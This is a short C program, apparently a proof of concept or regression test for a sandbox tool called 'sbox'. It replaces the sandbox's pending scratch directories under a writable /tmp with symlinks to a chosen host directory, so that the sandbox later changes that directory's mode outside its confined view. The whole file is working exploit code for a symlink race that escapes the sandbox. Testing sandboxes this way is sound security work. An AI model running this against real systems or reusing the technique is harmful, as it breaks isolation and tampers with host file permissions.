/* attack_scratch: with the host's /tmp writable, puts a link where sbox is about to make a directory of its own.
 *
 *   attack_scratch VICTIM    a directory outside the view, whose mode must not change */
/* with --rw /tmp: replaces a placeholder-to-be by a link to a host directory outside the view; opening /dev then chmods that */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <glob.h>
#include <sys/stat.h>
int main(int c,char**v){glob_t g;char pat[100];sprintf(pat,"/tmp/sbox-%d/*/synth",getuid());if(glob(pat,0,0,&g)){puts("no scratch");return 1;}
 for(size_t i=0;i<g.gl_pathc;i++)for(int k=0;k<5;k++){char p[300];unsigned long kinds[]={2,3,4};
  for(int j=0;j<3;j++){unsigned long id=1ul<<63|kinds[j]<<56;sprintf(p,"%s/%lx",g.gl_pathv[i],id);rmdir(p);symlink(v[1],p);}}
 int fd=open("/dev/pts",O_RDONLY|O_DIRECTORY);int f2=open("/dev",O_RDONLY|O_DIRECTORY);int f3=open("/proc",O_RDONLY|O_DIRECTORY);struct stat st;
 if(fd>=0&&!fstat(fd,&st))printf("pts ino %lu mode %o\n",st.st_ino,st.st_mode);return 0;}
